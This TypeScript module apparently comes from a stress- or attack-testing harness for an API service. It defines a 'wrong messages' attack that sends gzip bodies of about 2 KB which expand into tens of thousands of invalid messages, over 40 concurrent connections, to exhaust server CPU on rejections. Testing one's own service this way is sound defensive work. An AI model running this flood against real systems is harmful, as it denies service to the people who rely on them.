import { gzipSync } from 'node:zlib'
import type { Attack } from '../attack.ts'
import { rawFlood } from '../flood.ts'

/** As many as a body may have values, and as many as a request may have messages: both are refused for nothing. */
const BODIES = [32_000, 10_000].map((count) =>
  gzipSync(JSON.stringify({ model: 'svc/sandbox', messages: Array.from({ length: count }, () => ({ role: 'x' })) })),
)

export const wrongMessages: Attack = {
  name: 'wrong messages',
  about:
    '40 at a time of 2 KB of gzip that unfold to 10,000 and 32,000 wrong messages; each cost 125 ms and a free 422.',
  run: (target, signal) =>
    rawFlood(target, signal, {
      connections: 40,
      head: (connection) =>
        `Content-Encoding: gzip\r\nContent-Length: ${BODIES[connection % BODIES.length]?.byteLength}`,
      body: (connection) => [BODIES[connection % BODIES.length] ?? ''],
    }),
}
